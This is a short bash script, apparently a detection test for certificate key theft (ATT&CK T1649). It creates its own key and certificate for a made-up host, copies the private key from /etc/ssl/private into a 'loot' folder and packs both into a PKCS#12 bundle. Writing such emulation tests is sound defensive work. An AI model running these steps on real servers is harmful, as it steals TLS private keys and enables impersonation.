#!/bin/bash
# Steal a web server's TLS identity: copy its private key out of /etc/ssl/private and pack
# key and certificate into a PKCS#12 bundle to take away. The key and the self-signed
# certificate are made here, in the overlay, for a made-up name.
# technique: T1649
# expect: certificate-key-theft
set -eu
mkdir -p /etc/ssl/private /etc/ssl/certs
openssl req -x509 -newkey rsa:2048 -nodes -days 1 -subj '/CN=shop.example.invalid' \
    -keyout /etc/ssl/private/shop.key -out /etc/ssl/certs/shop.pem 2>/dev/null
chmod 600 /etc/ssl/private/shop.key
mkdir -p "$TPY_WORK/loot"
cp /etc/ssl/private/shop.key "$TPY_WORK/loot/"
openssl pkcs12 -export -in /etc/ssl/certs/shop.pem -inkey /etc/ssl/private/shop.key \
    -passout pass:not-a-secret -out "$TPY_WORK/loot/shop.p12"
ls -l "$TPY_WORK/loot"
